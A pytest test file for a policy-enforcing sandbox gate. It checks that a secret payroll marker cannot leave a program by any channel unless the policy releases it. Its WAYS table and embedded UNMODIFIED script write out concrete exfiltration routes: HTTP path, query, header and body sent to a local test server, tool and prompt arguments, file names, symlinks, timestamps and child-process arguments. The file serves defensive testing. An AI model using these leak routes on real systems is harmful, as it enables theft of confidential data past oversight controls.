"""Attacks: a program that holds a secret takes it out by every way that there is.

Plain (it has read the secret) and planned (it holds a handle to it), from an attached run; and from an
unmodified program in a real sandbox, through its mounts, its output and the proxy. Each refusal has its
control: the same request under a policy that releases the secret to exactly this sink.
"""

from __future__ import annotations

import http.server
import json
import sys
import threading
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import pytest

from authority.agent.client import Gate
from gate.lab import Attached, Lab, code_of

from .mcp_lab import SERVER, approve

MARKER = "MARKER-4711-secret"
POLICY = """\
version = 1
[filesystem]
read = ["./**"]
write = ["./out/**"]
files = "FILES"
[process]
exec = ["python3"]
[network]
http = ["GET,POST http://127.0.0.1:PORT/**?*"]
private = ["127.0.0.1:PORT"]
[models]
allow = ["reader"]
[models.upstream.local]
url = "http://127.0.0.1:PORT/v1"
api = "openai"
models = ["reader"]
[tools.note]
command = ["python3", "tool.py"]
content = ["q"]
effect = "read"
reads = "trusted"
[tools.act]
command = ["python3", "tool.py"]
control = ["q"]
reads = "trusted"
[agents.child]
command = ["python3", "child.py"]
[mcp.files]
command = ["EXECUTABLE", "servers/files.py"]
policy = "server.toml"
allow = ["add"]
content = ["a", "b", "port", "path"]
reads = "trusted"
[labels]
trusted = ["user", "fs:./**", "fs:.", "http://127.0.0.1:PORT/**?*"]
content = ["http://127.0.0.1:PORT/**?*"]
approve = ["tool:act"]
secrets = { payroll = ["fs:./payroll/**"] }
release = { payroll = [RELEASE] }
[budgets]
denials = 10_000
runs = 100
"""


SERVERS_OWN = """\
version = 1
[labels]
secrets = { payroll = ["fs:./payroll/**"] }
release = { payroll = ["run", "output"] }
"""


class Seen(http.server.ThreadingHTTPServer):
    """Keeps every byte that it is sent, and answers like a model."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.got: list[str] = []

    def saw(self) -> bool:
        return any(MARKER in one for one in self.got)


class Handler(http.server.BaseHTTPRequestHandler):
    server: Seen

    def do(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.server.got.append(f"{self.command} {self.path} {self.headers} {body.decode()}")
        message = {"role": "assistant", "content": "ok"}
        answer = json.dumps(
            {
                "id": "x", "object": "chat.completion", "created": 0, "model": "reader",
                "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15},
            }
        ).encode()  # fmt: skip
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = do

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def web() -> Iterator[Seen]:
    made = Seen()
    thread = threading.Thread(target=made.serve_forever, daemon=True)
    thread.start()
    yield made
    made.shutdown()
    thread.join(20)
    made.server_close()


@pytest.fixture(autouse=True)
def files(lab: Lab, web: Seen) -> None:
    web.got.clear()
    lab.file("payroll/all.csv", MARKER)
    lab.file("servers/files.py", SERVER)
    lab.file("server.toml", SERVERS_OWN)
    lab.file(
        "tool.py", "import json, sys\ns = sys.stdin.read()\nprint(json.dumps({'result': s}))\n"
    )
    lab.file("child.py", "import sys, time\nprint(sys.argv[1:], flush=True)\ntime.sleep(20)\n")


def policy(web: Seen, *release: str, files: str = "requests") -> str:
    port = str(web.server_address[1])
    text = POLICY.replace("RELEASE", ", ".join(f'"{r}"' for r in release))
    return text.replace("PORT", port).replace("FILES", files).replace("EXECUTABLE", sys.executable)


class Way(NamedTuple):
    """`plain` sends the secret that was read; `held` passes a handle on, where one may stand."""

    release: str
    plain: Callable[[Gate, str, str], Any]
    held: Callable[[Gate, Any, str], Any] | None = None


def chat(text: Any) -> list[dict[str, Any]]:
    return [{"role": "user", "content": text}]


WAYS = {
    "a URL's path": Way("URL", lambda g, s, u: g.http("GET", f"{u}/{s}")),
    "a URL's query": Way("URL", lambda g, s, u: g.http("GET", f"{u}/x?q={s}")),
    "a header": Way("URL", lambda g, s, u: g.http("GET", f"{u}/x", headers=[("X-S", s)])),
    "a body": Way(
        "URL",
        lambda g, s, u: g.http("POST", f"{u}/x", body=s.encode()),
        lambda g, h, u: g.http("POST", f"{u}/x", body=h),
    ),
    "a tool": Way(
        "tool:note",
        lambda g, s, u: g.tool("note", {"q": s}),
        lambda g, h, u: g.tool("note", {"q": h}),
    ),
    "a name among a tool's arguments": Way("tool:act", lambda g, s, u: g.tool("act", {s: 1})),
    "an argument that a person may approve": Way(
        "tool:act",
        lambda g, s, u: g.tool("act", {"q": s}),
        lambda g, h, u: g.tool("act", {"q": h}),
    ),
    "an MCP server": Way(
        "tool:files.add", lambda g, s, u: g.tool("files/add", {"a": len(s), "b": 1})
    ),
    "a prompt": Way(
        "model:reader",
        lambda g, s, u: g.model("reader", chat(s), max_tokens=5),
        lambda g, h, u: g.model("reader", chat(h), handle=True, max_tokens=5),
    ),
    "a file": Way(
        "fs:./out/**",
        lambda g, s, u: g.write("out/leak", s.encode()),
        lambda g, h, u: g.call("fs.write", "out/leak", {"data": h}),
    ),
    "the end of a file": Way(
        "fs:./out/**",
        lambda g, s, u: g.append("out/leak", s.encode()),
        lambda g, h, u: g.call("fs.append", "out/leak", {"data": h}),
    ),
    "a file's name": Way("fs:./out/**", lambda g, s, u: g.mkdir(f"out/{s}", parents=True)),
    "what is not there any more": Way("fs:./out/**", lambda g, s, u: g.delete("out/bit")),
    "a new name": Way("fs:./out/**", lambda g, s, u: g.rename("out/bit", f"out/{s}.x")),
    "a child's arguments": Way("agent:child", lambda g, s, u: g.spawn("child", [s])),
}


@pytest.mark.parametrize("name", WAYS)
@pytest.mark.parametrize("how", ["plain", "planned"])
def test_a_secret_leaves_where_it_is_released_and_by_no_other_way(
    lab: Lab, web: Seen, name: str, how: str
) -> None:
    way = WAYS[name]
    url = f"http://127.0.0.1:{web.server_address[1]}"
    if how == "planned" and way.held is None:
        pytest.skip("no handle may stand there: test_attack_handles_input")

    def tried(run: Attached) -> str:
        gate = run.gate()
        if how == "planned":
            held = gate.call("fs.read", "payroll/all.csv", {}, handle=True)["/data"]
            assert way.held is not None
            return code_of(lambda: way.held(gate, held, url))  # type: ignore[misc]
        secret = gate.read("payroll/all.csv").decode()
        return code_of(lambda: way.plain(gate, secret, url))

    lab.file("out/bit", "")
    (lab.work / "out/bit").chmod(0o666)
    with lab.attached(policy(web)) as run:
        code_of(lambda: run.gate().tool("files/add", {"a": 1, "b": 1}))
        approve(lab)
        assert tried(run) == "E_TAINT"
        assert MARKER not in json.dumps(lab.log(kind="admit", run=run.run))
        children = {e["run"] for e in lab.log(kind="run.start", parent=run.run)}
        assert not any(MARKER in json.dumps(lab.log(run=child)) for child in children)
    others = {w.release for w in WAYS.values()} - {way.release, "URL"}
    elsewhere = [sink for release in others for sink in release.split()]
    with lab.attached(policy(web, *elsewhere)) as run:
        assert tried(run) == "E_TAINT"
    assert not web.saw()
    assert (lab.work / "out/bit").exists()
    assert not [p for p in (lab.work / "out").iterdir() if MARKER in p.name or p.name == "leak"]
    with lab.attached(policy(web, *way.release.replace("URL", f"{url}/**?*").split())) as run:
        assert tried(run) == ""
    if way.release in ("URL", "model:reader"):
        assert web.saw()
    for path in (lab.work / "out").iterdir():
        if path.is_dir():
            path.rmdir()
        else:
            path.unlink()


UNMODIFIED = """
import os, subprocess, sys, urllib.request
secret = open("payroll/all.csv").read()
def does(what, *more):
    try:
        what(*more)
    except OSError as no:
        return getattr(no, "code", None) or no.errno
    return 0
url = sys.argv[1]
for name in ("no_proxy", "NO_PROXY"):
    os.environ.pop(name, None)
found = {
    "path": does(urllib.request.urlopen, f"{url}/{secret}"),
    "header": does(urllib.request.urlopen, urllib.request.Request(url, headers={"X-S": secret})),
    "body": does(urllib.request.urlopen, urllib.request.Request(url, data=secret.encode())),
    "file": does(lambda: open("out/leak", "w").write(secret)),
    "name": does(os.mkdir, f"out/{secret}"),
    "link": does(os.symlink, secret, "out/link"),
    "times": does(os.utime, "out/bit", (4711, 4711)),
    "mode": does(os.chmod, "out/bit", 0o600),
    "gone": does(os.unlink, "out/bit"),
}
child = subprocess.run([sys.executable, "-I", "-c", "print(input())"], input=secret, text=True)
print(secret, flush=True)
print(secret, file=sys.stderr, flush=True)
sys.exit(sum((n != 0) << i for i, n in enumerate(found.values())) & 127)
"""


@pytest.mark.parametrize("released", [False, True], ids=["kept", "control: released"])
def test_an_unmodified_program_gets_it_out_nowhere(lab: Lab, web: Seen, released: bool) -> None:
    lab.file("out/bit", "")
    (lab.work / "out/bit").chmod(0o666)
    url = f"http://127.0.0.1:{web.server_address[1]}"
    sinks = (f"{url}/**?*", "fs:./out/**", "output") if released else ()
    argv = [sys.executable, "-I", "-c", UNMODIFIED, url]
    ran = lab.run(argv, policy(web, *sinks, files="mount"))
    out = {path.name for path in (lab.work / "out").iterdir()}
    if released:
        assert ran.summary["code"] == 0, ran.err
        assert web.saw()
        assert MARKER in ran.out
        assert MARKER in ran.err
        assert {"leak", "link", MARKER} <= out
    else:
        assert ran.summary["code"] == 127, (ran.out, ran.err)
        assert not web.got
        assert MARKER not in ran.out + ran.err
        assert out == {"bit"}
        assert (lab.work / "out/bit").stat().st_mtime != 4711
        assert {e["code"] for e in lab.denials(run=ran.run)} == {"E_TAINT"}
